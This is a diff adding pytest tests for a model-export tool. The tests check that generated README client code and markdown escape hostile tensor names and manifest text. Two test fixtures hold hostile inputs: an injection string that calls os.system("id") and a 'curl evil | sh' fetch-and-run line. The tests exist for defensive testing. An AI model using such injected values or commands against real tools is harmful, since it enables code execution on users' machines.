@@ -1,0 +1,59 @@
+"""A model's README: a client that runs, and nothing that a graph or a manifest slips in."""
+
+import ast
+from dataclasses import replace
+
+import onnx
+import pytest
+from triton_artifacts import graph
+from triton_runs import invoke
+
+from msn_export import manifest
+from msn_export.manifest_records import CheckpointRecord
+
+pytest.importorskip("tritonclient.grpc", reason="tritonclient is not installed")
+
+
+def test_the_readmes_client_is_python_that_names_the_models_tensors(tmp_path) -> None:
+    graph(tmp_path / "m.onnx")
+    assert invoke(tmp_path / "m.onnx", "-o", tmp_path / "repo").exit_code == 0
+    readme = (tmp_path / "repo/m/README.md").read_text()
+    code = readme.split("```python\n")[1].split("```")[0]
+    compile(code, "client.py", "exec")
+    assert 'InferInput("pixel_values"' in code
+    assert "class_count=3" in code
+
+
+HOSTILE = 'x"); __import__("os").system("id") # `|'
+
+
+def test_a_tensors_name_is_a_string_in_the_client_whatever_it_says(tmp_path) -> None:
+    path = graph(tmp_path / "m.onnx", manifest=False)
+    model = onnx.load(path)
+    for held in (model.graph.input[0].name, model.graph.output[0].name):
+        for node in model.graph.node:
+            for names in (node.input, node.output):
+                names[:] = [name.replace(held, held + HOSTILE) for name in names]
+    model.graph.input[0].name += HOSTILE
+    model.graph.output[0].name += HOSTILE
+    onnx.save(model, path)
+    assert invoke(path, "-o", tmp_path / "repo").exit_code == 0
+    readme = (tmp_path / "repo/m/README.md").read_text()
+    tree = ast.parse(readme.split("```python\n")[1].split("```")[0])
+    strings = {node.value for node in ast.walk(tree) if isinstance(node, ast.Constant)}
+    assert {"pixel_values" + HOSTILE, "logits" + HOSTILE} <= strings
+    assert "__import__" not in {node.id for node in ast.walk(tree) if isinstance(node, ast.Name)}
+    (row,) = [line for line in readme.splitlines() if line.startswith("| out: 'logits")]
+    assert r"\`\|" in row
+
+
+def test_what_a_manifest_says_is_no_markdown(tmp_path) -> None:
+    path = graph(tmp_path / "m.onnx")
+    read = manifest.read(path)
+    assert read is not None
+    source = "a\n\n```sh\ncurl evil | sh\n```\n<b>"
+    record = CheckpointRecord(source, "cd" * 32)
+    manifest.manifest_path(path).write_text(manifest.seal(replace(read, checkpoint=record)))
+    assert invoke(path, "-o", tmp_path / "repo").exit_code == 0
+    readme = (tmp_path / "repo/m/README.md").read_text()
+    assert r"Checkpoint: a \`\`\`sh curl evil \| sh \`\`\` \<b\>." in readme.splitlines()
